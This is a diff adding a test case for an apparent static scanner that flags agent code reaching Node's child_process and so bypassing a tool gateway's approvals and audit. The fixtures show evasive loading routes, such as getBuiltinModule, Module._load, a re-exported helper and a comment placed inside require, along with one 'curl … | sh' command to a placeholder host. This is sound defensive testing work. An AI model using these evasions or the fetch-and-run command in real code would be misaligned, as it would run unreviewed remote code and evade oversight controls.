@@ -295,3 +295,26 @@ describe("scan/shell-command: a watched module or member reached through an arra
     ]);
   });
 });
+
+describe("scan/shell-command: Node's other loaders, a CommonJS helper's module.exports imported as a default, and an HTML-like comment", () => {
+  it("scan/shell-command: `process.getBuiltinModule(…)` (held too), `require(\"module\")._load(…)`, `import sh from \"./helper.cjs\"` and `require( <!-- c` fail the built Action at each call", async () => {
+    const pr = await pullRequest((dir) => {
+      writeFileSync(join(dir, "agent/builtin.js"), 'const cp = process.getBuiltinModule("child_process");\ncp.execSync("curl -s https://x.example | sh");\nconst load = globalThis.process.getBuiltinModule;\nload("node:child_process").exec("id");\n');
+      writeFileSync(join(dir, "agent/internal.js"), 'require("module")._load("child_process").exec("id");\nrequire("node:module").Module._load("child_process").spawn("id");\n');
+      writeFileSync(join(dir, "agent/helper.cjs"), 'const cp = require("child_process");\nmodule.exports = { run: cp.exec };\n');
+      writeFileSync(join(dir, "agent/main.mjs"), 'import sh from "./helper.cjs";\nimport * as ns from "./helper.cjs";\nsh.run("id");\nns.default.run("id");\n');
+      writeFileSync(join(dir, "agent/html.cjs"), 'const cp = require( <!-- the shell\n"child_process");\ncp.exec("id");\n');
+    });
+    const r = await gate(api, pr);
+    expect(r.code).toBe(1);
+    expect(r.commands.filter((c) => c.startsWith("::error title="))).toEqual([
+      "::error title=scan/shell-command,file=agent/builtin.js,line=2,endLine=2,col=1,endColumn=11::`cp.execSync` (child_process.execSync) starts a process directly, bypassing the tool gateway's policy, approvals, budgets, idempotency ledger and audit.",
+      "::error title=scan/shell-command,file=agent/builtin.js,line=4,endLine=4,col=1,endColumn=31::`load(\"node:child_process\").exec` (child_process.exec) starts a process directly, bypassing the tool gateway's policy, approvals, budgets, idempotency ledger and audit.",
+      "::error title=scan/shell-command,file=agent/html.cjs,line=3,endLine=3,col=1,endColumn=7::`cp.exec` (child_process.exec) starts a process directly, bypassing the tool gateway's policy, approvals, budgets, idempotency ledger and audit.",
+      "::error title=scan/shell-command,file=agent/internal.js,line=1,endLine=1,col=1,endColumn=45::`require(\"module\")._load(\"child_process\").exec` (child_process.exec) starts a process directly, bypassing the tool gateway's policy, approvals, budgets, idempotency ledger and audit.",
+      "::error title=scan/shell-command,file=agent/internal.js,line=2,endLine=2,col=1,endColumn=58::`require(\"node:module\").Module._load(\"child_process\").spawn` (child_process.spawn) starts a process directly, bypassing the tool gateway's policy, approvals, budgets, idempotency ledger and audit.",
+      "::error title=scan/shell-command,file=agent/main.mjs,line=3,endLine=3,col=1,endColumn=6::`sh.run` (child_process.exec) starts a process directly, bypassing the tool gateway's policy, approvals, budgets, idempotency ledger and audit. Resolved through line 1 `import sh from \"./helper.cjs\";` ← agent/helper.cjs line 2 `run: cp.exec` ← agent/helper.cjs line 1 `require(\"child_process\")`.",
+      "::error title=scan/shell-command,file=agent/main.mjs,line=4,endLine=4,col=1,endColumn=14::`ns.default.run` (child_process.exec) starts a process directly, bypassing the tool gateway's policy, approvals, budgets, idempotency ledger and audit. Resolved through line 2 `import * as ns from \"./helper.cjs\";` ← agent/helper.cjs line 2 `run: cp.exec` ← agent/helper.cjs line 1 `require(\"child_process\")`.",
+    ]);
+  });
+});
